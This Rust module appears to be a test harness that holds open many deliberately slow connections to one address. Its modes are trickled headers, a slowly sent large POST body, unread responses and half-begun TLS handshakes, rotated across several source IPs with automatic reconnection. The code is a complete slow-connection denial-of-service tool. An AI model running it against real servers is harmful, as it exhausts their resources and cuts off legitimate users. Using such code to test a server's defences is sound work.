//! A client that keeps connections and gives nothing: heads and bodies that never end, answers that are not taken, TLS that is
//! begun and left. When it is cut off it comes again.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

/// What a connection does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Trick {
    /// A head, a few bytes at a time.
    Head,
    /// A body of megabytes, its begin at once and the rest a byte at a time.
    Body,
    /// Asks for pages, takes none.
    Reader,
    /// The begin of a TLS handshake.
    Handshake,
}

/// The tricks, in turn.
const TRICKS: [Trick; 4] = [Trick::Head, Trick::Body, Trick::Reader, Trick::Handshake];

/// Slow connections to one address, until it is dropped.
#[derive(Debug)]
pub struct Slow {
    tasks: JoinSet<()>,
    open: Arc<AtomicUsize>,
    made: Arc<AtomicUsize>,
}

impl Slow {
    /// So many, from these sources in turn. `page` is the path that readers ask for.
    pub fn start(to: SocketAddr, sources: &[IpAddr], count: usize, page: &'static str) -> Self {
        let mut slow = Self {
            tasks: JoinSet::new(),
            open: Arc::default(),
            made: Arc::default(),
        };
        for number in 0..count {
            let source = sources[number % sources.len()];
            let trick = TRICKS[number / sources.len() % TRICKS.len()];
            let (open, made) = (slow.open.clone(), slow.made.clone());
            slow.tasks.spawn(async move {
                loop {
                    if let Ok(stream) = connect(to, source).await {
                        made.fetch_add(1, Ordering::SeqCst);
                        open.fetch_add(1, Ordering::SeqCst);
                        let _ = play(stream, trick, page).await;
                        open.fetch_sub(1, Ordering::SeqCst);
                    }
                    // Cut off: it comes again soon.
                    tokio::time::sleep(Duration::from_secs(1)).await;
                }
            });
        }
        slow
    }

    /// Connections that are open as far as the attacker sees.
    pub fn open(&self) -> usize {
        self.open.load(Ordering::SeqCst)
    }

    /// Connections that were made so far.
    pub fn made(&self) -> usize {
        self.made.load(Ordering::SeqCst)
    }
}

async fn connect(to: SocketAddr, source: IpAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    // As little as the kernel lets it take, so that the other side has to hold the rest.
    socket.set_recv_buffer_size(2_048)?;
    socket.bind(SocketAddr::new(source, 0))?;
    socket.connect(to).await
}

async fn play(mut stream: TcpStream, trick: Trick, page: &str) -> std::io::Result<()> {
    let mut one = [0; 1];
    match trick {
        Trick::Head => {
            stream
                .write_all(b"GET / HTTP/1.1\r\nhost: x\r\nx-slow: ")
                .await?
        }
        Trick::Body => {
            let head = b"POST /v1/blocks HTTP/1.1\r\nhost: x\r\ncontent-length: 9000000\r\n\r\n";
            stream.write_all(head).await?;
            stream.write_all(&vec![b'x'; 256 << 10]).await?;
        }
        Trick::Reader => {
            for _ in 0..16 {
                let ask = format!("GET {page} HTTP/1.1\r\nhost: x\r\n\r\n");
                stream.write_all(ask.as_bytes()).await?;
            }
        }
        Trick::Handshake => stream.write_all(&[0x16, 3, 1, 0x40, 0, 1]).await?,
    }
    loop {
        tokio::time::sleep(Duration::from_secs(2)).await;
        match trick {
            Trick::Reader => {
                if stream.read(&mut one).await? == 0 {
                    return Ok(());
                }
            }
            _ => stream.write_all(b"x").await?,
        }
    }
}
